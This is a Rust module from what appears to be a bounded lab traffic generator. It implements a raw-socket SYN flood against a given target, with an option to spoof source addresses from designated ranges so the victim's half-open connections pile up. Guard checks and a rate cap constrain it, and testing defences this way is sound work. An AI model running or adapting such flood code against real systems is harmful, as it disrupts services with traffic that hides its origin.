//! A flood of SYNs through a raw socket. What becomes of the victim's answers depends on where the SYNs say that they come from: this
//! pod, whose kernel resets what it did not ask for; addresses whose owner resets them; or addresses that never answer.

use std::net::SocketAddrV4;

use super::{
    BehaviourError, Bounds,
    course::{CourseArgs, Tempo},
    raw::SynSocket,
};
use crate::nets::Range;

/// Most SYNs per second, whatever is asked for.
const MAX_RATE: u32 = 2_000;
/// Source ports, as a kernel would choose them.
const PORTS: std::ops::Range<u16> = 32_768..60_999;

/// Where SYNs say that they come from.
#[derive(clap::ValueEnum, Clone, Copy, Debug, PartialEq, Eq)]
pub enum Source {
    /// This pod
    Own,
    /// The silent range: the victim's answers are lost, and its half-open connections stay until they time out
    Silent,
    /// The refusing range: the victim's answers are reset by others
    Refusing,
}

/// Whom it floods, how hard.
#[derive(clap::Args, Debug)]
pub struct SynFloodArgs {
    #[command(flatten)]
    bounds: Bounds,
    /// The victim
    #[arg(long)]
    target: SocketAddrV4,
    /// SYNs per second, at most 2,000
    #[arg(long, default_value_t = 800)]
    rate: u32,
    /// Where they say that they come from
    #[arg(long, value_enum, default_value_t = Source::Own)]
    source: Source,
    #[command(flatten)]
    course: CourseArgs,
}

/// Floods in the given dose until its time is over.
pub(super) async fn run(args: SynFloodArgs) -> Result<(), BehaviourError> {
    let guard = args.bounds.guard()?;
    guard.check(args.target)?;
    let own = guard.own_address()?;
    let socket = SynSocket::open(guard)?;
    let mut tempo = Tempo::new(args.course.begin(), f64::from(args.rate.clamp(1, MAX_RATE)));
    while let Some(due) = tempo.due().await {
        for _ in 0..due {
            let host = rand::random_range(1..=254);
            let address = match args.source {
                Source::Own => own,
                Source::Silent => guard.range(Range::Silent).host(host),
                Source::Refusing => guard.range(Range::Refusing).host(host),
            };
            socket.send(SocketAddrV4::new(address, rand::random_range(PORTS)), args.target)?;
        }
    }
    Ok(())
}
